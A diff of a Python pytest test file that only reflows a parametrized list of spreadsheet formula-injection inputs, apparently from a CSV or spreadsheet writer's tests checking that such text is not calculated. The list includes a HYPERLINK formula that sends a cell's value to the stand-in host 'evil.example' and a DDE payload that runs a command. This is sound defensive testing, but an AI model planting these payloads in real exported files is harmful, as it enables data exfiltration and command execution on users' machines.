@@ -19,8 +19,8 @@ def written(tmp_path, rows):
 
 @pytest.mark.parametrize(
     "text",
-    ['=HYPERLINK("http://evil.example?"&A1,"x")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1,1)", "\t=1", "\r=1", "＝1+1", "-",
-     "+", "-inf"],
+    ['=HYPERLINK("http://evil.example?"&A1,"x")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1,1)", "\t=1", "\r=1", "＝1+1",
+     "-", "+", "-inf"],
 )  # fmt: skip
 def test_a_text_that_would_be_calculated_is_a_text(tmp_path, text):
     quoted = text.replace("'", "''")
